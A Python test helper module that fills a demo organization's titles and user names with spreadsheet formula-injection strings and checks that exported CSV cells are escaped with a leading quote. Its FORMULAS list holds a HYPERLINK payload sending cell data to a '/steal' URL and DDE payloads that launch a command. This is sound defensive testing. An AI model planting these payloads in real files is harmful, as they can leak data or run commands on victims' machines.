"""An organization whose titles and names start like spreadsheet formulas, and the CSV checks.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run by a
spreadsheet as a formula; every CSV the project writes must carry such text behind a ``'``.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import datetime
from pathlib import Path

from devin_data.emulator import DemoOrg

FORMULAS = (
    '=HYPERLINK("http://127.0.0.1/steal?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def formula_org(anchor: datetime, sessions: int = 160, seed: int = 23) -> DemoOrg:
    """A small demo organization whose every title and every member's name is a formula."""
    org = DemoOrg.generate(sessions, seed, anchor, days=40)
    for n, plan in enumerate(org.plans):
        plan.title = FORMULAS[n % len(FORMULAS)]
    org.users = tuple(
        replace(user, name=FORMULAS[n % len(FORMULAS)]) for n, user in enumerate(org.users)
    )
    return org


def read_rows(text: str) -> list[dict[str, str]]:
    """The rows of a CSV text as Python's csv module reads them."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_file(path: Path) -> list[dict[str, str]]:
    """The rows of a CSV file, its line breaks as written (a carriage return stays one)."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def formula_cells(rows: list[dict[str, str]]) -> list[tuple[str, str]]:
    """(column, cell) of every cell a spreadsheet would still run as a formula."""
    return [
        (column, cell)
        for row in rows
        for column, cell in row.items()
        if cell and cell.startswith(DANGEROUS) and not _number(cell)
    ]


def quoted(rows: list[dict[str, str]], column: str) -> list[str]:
    """The cells of ``column`` written behind the quote, without it."""
    return [row[column][1:] for row in rows if row[column].startswith("'")]


def _number(cell: str) -> bool:
    """A plain number such as ``-2.5`` is a value, not a formula, and is written as it is."""
    try:
        float(cell)
    except ValueError:
        return False
    return True
